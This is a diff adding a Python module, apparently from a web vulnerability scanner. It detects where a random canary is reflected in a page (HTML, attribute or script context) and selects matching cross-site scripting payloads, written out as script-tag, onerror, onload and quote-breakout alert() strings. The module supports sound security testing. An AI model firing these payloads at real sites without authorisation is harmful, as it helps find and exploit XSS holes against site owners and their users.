@@ -0,0 +1,95 @@
+import re
+import secrets
+
+"""
+Reflection pre-screening and context aware XSS payloads.
+
+Instead of firing every payload at every parameter, each parameter first gets
+a harmless unique canary (one request covers all of them). Only parameters
+whose canary comes back are attacked, and only with payloads that can break
+out of the context the canary landed in.
+"""
+
+HTML = "html"
+ATTRIBUTE = "attribute"
+SCRIPT = "script"
+
+PAYLOADS = {
+    HTML: [
+        "<sCript>alert('XSS PAYLOAD')</scriPt>",
+        "<img src=x onerror=alert('XSS')>",
+        "<svg onload=alert('XSS')>",
+    ],
+    ATTRIBUTE: [
+        '"><sCript>alert(\'XSS PAYLOAD\')</scriPt>',
+        "'><img src=x onerror=alert('XSS')>",
+        '" autofocus onfocus=alert(\'XSS\') x="',
+    ],
+    SCRIPT: [
+        "';alert('XSS');//",
+        '";alert(\'XSS\');//',
+        "</scRipt><sCript>alert('XSS PAYLOAD')</scriPt>",
+    ],
+}
+
+# form fields worth injecting into, hidden fields are left alone so CSRF
+# tokens and view state survive the submission
+INJECTABLE_TYPES = {"text", "search", "textarea", "email", "url", "tel"}
+
+SCRIPT_OPEN = re.compile(r"<script\b", re.I)
+SCRIPT_CLOSE = re.compile(r"</script\s*>", re.I)
+
+
+def make_canary():
+    return f"xss{secrets.token_hex(4)}"
+
+
+def _last(pattern, text, end):
+    last = -1
+    for match in pattern.finditer(text, 0, end):
+        last = match.start()
+    return last
+
+
+def reflection_contexts(text, canary):
+    """Returns the set of contexts the canary was reflected in."""
+    contexts = set()
+    start = text.find(canary)
+    while start != -1:
+        if _last(SCRIPT_OPEN, text, start) > _last(SCRIPT_CLOSE, text, start):
+            contexts.add(SCRIPT)
+        elif text.rfind("<", 0, start) > text.rfind(">", 0, start):
+            contexts.add(ATTRIBUTE)
+        else:
+            contexts.add(HTML)
+        start = text.find(canary, start + len(canary))
+    return contexts
+
+
+def canaries_for(names):
+    return {name: make_canary() for name in names}
+
+
+def reflected(text, canaries):
+    """{name: canary} -> {name: contexts} for every canary found in text."""
+    found = {}
+    for name, canary in canaries.items():
+        contexts = reflection_contexts(text, canary)
+        if contexts:
+            found[name] = contexts
+    return found
+
+
+def payloads_for(contexts):
+    for context in (SCRIPT, ATTRIBUTE, HTML):
+        if context in contexts:
+            for payload in PAYLOADS[context]:
+                yield context, payload
+
+
+def injectable_inputs(form):
+    return [
+        input["name"]
+        for input in form["inputs"]
+        if input["name"] and input["type"] in INJECTABLE_TYPES
+    ]